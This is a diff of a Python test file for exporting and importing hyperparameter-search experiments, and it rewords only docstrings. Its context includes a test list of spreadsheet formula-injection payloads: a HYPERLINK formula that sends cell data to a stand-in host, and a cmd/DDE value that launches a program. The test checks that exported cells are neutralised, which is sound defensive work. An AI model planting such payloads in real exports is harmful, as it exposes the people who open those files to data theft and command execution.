@@ -1,4 +1,4 @@
-"""Export and import: a search goes on elsewhere as it would have, and a file that is not whole changes nothing."""
+"""Export and import: a search continues elsewhere as it would have, and a damaged file changes nothing."""
 
 import asyncio
 import csv
@@ -51,7 +51,7 @@ METRICS = [0.1, 1 / 3, 5e-324, 1.7976931348623157e308, -2.5, math.nan, math.inf,
 
 @dataclass
 class Player:
-    """Plays a search by a seed: the same seed and the same answers make the same calls."""
+    """Plays a search by a seed: the same seed and the same replies make the same calls."""
 
     store: RedisStore
     ref: ExperimentRef
@@ -94,7 +94,7 @@ class Player:
 
 
 def plain(value: Any) -> object:
-    """Everything of a decision but when, and under which fencing token; NaN is NaN."""
+    """A decision without its time and fencing token; NaN equals NaN."""
     return repr(value._replace(lease=Lease(value.lease.trial, 0), deadline_ms=0))
 
 
@@ -145,7 +145,7 @@ async def test_a_search_that_paused_itself_arrives_with_its_reason(
 
 
 def strip(said: list[Any], ahead: int) -> list[object]:
-    """What was said, with revisions counted without the releases."""
+    """The replies, with revisions counted as if there had been no releases."""
     return [(*line[:-1], line[-1] - ahead) for line in said]
 
 
@@ -197,7 +197,7 @@ async def test_a_name_that_is_taken_is_refused(places: tuple[Place, Place], ref:
 
 
 def changed(text: str, change: Callable[[dict[str, Any]], object], which: str) -> str:
-    """The file with one record changed, and an end that fits again."""
+    """The file with one record changed and a valid last line."""
     lines = [json.loads(line) for line in text.splitlines()[:-1]]
     change(next(line for line in lines if which in line))
     body = "".join(json.dumps(line) + "\n" for line in lines)
@@ -239,7 +239,7 @@ async def test_a_damaged_file_leaves_nothing_behind(name: str, places: tuple[Pla
 
 
 async def test_what_is_exported_is_of_one_moment(places: tuple[Place, Place], ref: ExperimentRef) -> None:
-    """While workers work, each export is sound."""
+    """Each export is sound even while workers work."""
     here, there = places
     await create(here.store, ref, halving(200))
     players = [Player(here.store, ref, random.Random(number), {}, []) for number in range(4)]
@@ -279,7 +279,7 @@ ODD_NAMES = ("learning-rate", "weight.decay", "a=b", "a/b", "batch size", "a`b")
 async def test_names_of_any_kind_are_enqueued_and_exported_by_one_spelling(
     places: tuple[Place, Place], ref: ExperimentRef, tmp_path: Path
 ) -> None:
-    """What `--set` takes is the name of the column, and no two parameters share one."""
+    """`--set` accepts the names of the columns, and no two parameters share a name."""
     here, there = places
     unit = {"type": "double", "minval": 0, "maxval": 1}
     kind = {"type": "categorical", "vals": ["a", "b"]}
@@ -313,7 +313,7 @@ FORMULAS = ['=HYPERLINK("http://h/?"&A1,"x")', "+1+cmd|' /C calc'!A0", "-2+3", "
 async def test_no_cell_of_a_table_begins_like_a_formula(
     places: tuple[Place, Place], ref: ExperimentRef, tmp_path: Path
 ) -> None:
-    """Workers, what they say, values and names of hyperparameters; numbers stay what they are."""
+    """Workers, their messages, values and names of hyperparameters; numbers stay numbers."""
     here, _ = places
     space = {"=name": {"type": "categorical", "vals": FORMULAS}, "shift": {"type": "categorical", "vals": [-1, -0.5]}}
     await create(here.store, ref, config("random", space=space, max_trials=12))
